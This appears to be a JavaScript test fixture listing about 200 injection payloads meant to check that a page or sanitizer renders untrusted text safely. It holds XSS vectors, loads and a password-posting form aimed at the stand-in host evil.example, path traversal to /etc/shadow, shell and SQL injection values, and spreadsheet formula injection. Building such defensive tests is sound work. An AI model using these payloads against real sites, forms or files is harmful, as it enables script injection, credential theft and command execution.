// 200 texts that nobody should be able to run. Each calls anlan_hit() or alert(), or loads from evil.example, if a page lets it.
const CALL = "anlan_hit()";
const EVENTS = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontransitionend", "onpointerenter", "ontoggle", "onbeforetoggle", "onscroll", "onwheel", "oncopy", "oninput", "onkeydown"];

const TAGS = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<script src=//evil.example/x.js></script>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script>alert(1)</script>`, `</title><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`, `</style><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`, `<script type=module>${CALL}</script>`, `<script\n>${CALL}</script\n>`, `<script/x>${CALL}</script>`,
  `--><script>${CALL}</script><!--`, `]]><script>${CALL}</script>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<template><script>${CALL}</script></template>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`, `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<object data="javascript:${CALL}"></object>`, `<embed src="javascript:${CALL}">`,
  `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import "//evil.example/x.css";</style>`,
  `<form action="javascript:${CALL}"><button>go</button></form>`, `<form action="//evil.example/"><input name=password></form>`, `<button formaction="javascript:${CALL}">go</button>`, `<a href="javascript:${CALL}" data-anlan>go</a>`,
  `<a href="JaVaScRiPt:${CALL}">go</a>`, `<a href="java\tscript:${CALL}">go</a>`, `<a href="&#106;avascript:${CALL}">go</a>`, `<a href="data:text/html,<script>${CALL}</script>">go</a>`,
  `<frameset onload=${CALL}>`, `<table background="javascript:${CALL}">`, `<isindex action="javascript:${CALL}" type=image>`, `<dialog open><script>${CALL}</script></dialog>`,
  `<plaintext>`, `<xmp><script>${CALL}</script></xmp>`, `<div style="background:url(//evil.example/x)">`, `<div style="width:expression(${CALL})">`,
];

const SHAPES = [
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}//`, `<svg><script>${CALL}</script></svg>`, `<svg><script href="//evil.example/x.js"/></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>go</text></a></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><set onend=${CALL} attributeName=x dur=1ms>`, `<svg><use href="//evil.example/x.svg#a"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`, `<svg><style><img src=x onerror=${CALL}></style></svg>`, `<svg><title><script>${CALL}</script></title></svg>`, `<svg><image href=x onerror=${CALL}></svg>`,
  `<math href="javascript:${CALL}">go</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`, `<math><maction actiontype="statusline#${CALL}" xlink:href="javascript:${CALL}">go</maction></math>`, `<math><annotation-xml encoding="text/html"><script>${CALL}</script></annotation-xml></math>`,
  `<img src=x onerror=${CALL}>`, `<img src="x" onerror="${CALL}">`, `<img src='x' onerror='${CALL}'>`, "<img src=x onerror=`" + CALL + "`>",
  `<img/src=x/onerror=${CALL}>`, `<IMG SRC=x ONERROR=${CALL}>`, `<img src=x onerror=&#97;nlan_hit()>`, `<img src=//evil.example/x.png>`,
  `<img srcset="//evil.example/x.png 1x">`, `<image src=x onerror=${CALL}>`, `<picture><source srcset=x><img src=x onerror=${CALL}></picture>`, `<video><source onerror=${CALL}></video>`,
  `<video poster="javascript:${CALL}"></video>`, `<audio src=x onerror=${CALL}>`, `<input type=image src=x onerror=${CALL}>`, `<details open ontoggle=${CALL}><summary>x</summary></details>`,
];

const BREAKS = [
  `" onmouseover="${CALL}`, `' onmouseover='${CALL}`, `"><script>${CALL}</script>`, `'><script>${CALL}</script>`,
  `" autofocus onfocus="${CALL}`, `' autofocus onfocus='${CALL}`, `x" style="animation-name:spin" onanimationstart="${CALL}`, `\\"><img src=x onerror=${CALL}>`,
  `javascript:${CALL}`, `JAVASCRIPT:${CALL}`, ` javascript:${CALL}`, `javascript://%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`, `vbscript:msgbox(1)`, `//evil.example/`, `https://evil.example/"onclick="${CALL}`,
  `');${CALL};//`, `";${CALL};//`, `\`;${CALL};//`, `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `%3Cscript%3E${CALL}%3C/script%3E`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;script&#62;${CALL}&#60;/script&#62;`, `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `＜script＞${CALL}＜/script＞`, `<ſcript>${CALL}</ſcript>`, `constructor.constructor("${CALL}")()`,
];

const MARKS = [
  `{{constructor.constructor("${CALL}")()}}`, `{{7*7}}`, `{{${CALL}}}`, "${" + CALL + "}", "#{" + CALL + "}", `<%= ${CALL} %>`, `<?php echo 1 ?>`, `[[${CALL}]]`, `{count}`, `{name} {id} {0}`, `%s%n%d%x`, `{% include "x" %}`,
  `"__proto__":{"anlan":1}`, `__proto__`, `constructor`, `toString`, `null`, `undefined`, `NaN`, `[object Object]`,
];

const HIDDEN = [
  `\u202Egnp.exe\u202C ${CALL}`, `宁波\u202E司公限有\u202C`, `\u2066\u202Eabc\u2069`, `\u200B<script>${CALL}</script>\u200B`, `<scr\u200Bipt>${CALL}</scr\u200Bipt>`, `\uFEFF<img src=x onerror=${CALL}>`, `a\u200D\u200Cb\u2060c`, `\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301zalgo`,
  `שלום <b onclick=${CALL}>`, `مرحبا "><svg onload=${CALL}>`, `👩‍👩‍👧‍👦🏳️‍🌈<img src=x onerror=${CALL}>`, `𝔄𝔫𝔩𝔞𝔫𠮷𡃁`, `ﷺﷺﷺﷺﷺﷺﷺﷺ`, `A${"̷̡̛".repeat(8)}`, `x${"ㅤ".repeat(12)}x`, `i̇İıI`,
];

const NAMES = [
  `../../../etc/passwd`, `..\\..\\windows\\win.ini`, `/etc/shadow`, `C:\\autoexec.bat`, `a.pdf.exe`, `a.html`, `con`, `nul.txt`, `; rm -rf /`, `| id`, `$(id)`, "`id`", `&& id`, `' OR '1'='1`, `'; DROP TABLE records;--`, `" UNION SELECT 1--`,
];

const FORMULAE = [
  `=cmd|' /C calc'!A0`, `=1+1`, `+1+1`, `-1+1`, `@SUM(1,1)`, `=HYPERLINK("http://evil.example","go")`, `=WEBSERVICE("http://evil.example/")`, `=IMPORTXML("http://evil.example","//a")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@cmd`, `=DDE("cmd";"/C calc";"x")`, `"=1+1"`, `＝1+1`, `;=1+1`, `,=1+1`,
];

const HANDLERS = EVENTS.flatMap((event, at) => [
  `<${["body", "div", "marquee", "select", "textarea", "keygen", "b", "p"][at % 8]} ${event}=${CALL} tabindex=1 data-anlan>x`,
  `<x-anlan ${event}="${CALL}" contenteditable>`,
]);

export const PAYLOADS = [...TAGS, ...SHAPES, ...BREAKS, ...MARKS, ...HIDDEN, ...NAMES, ...FORMULAE, ...HANDLERS, "<b data-anlan>bold</b>", "<x-anlan></x-anlan>"];

/** Evenly out of all kinds. */
export const sample = (count) => PAYLOADS.filter((_, at) => Math.floor((at * count) / PAYLOADS.length) !== Math.floor(((at - 1) * count) / PAYLOADS.length));
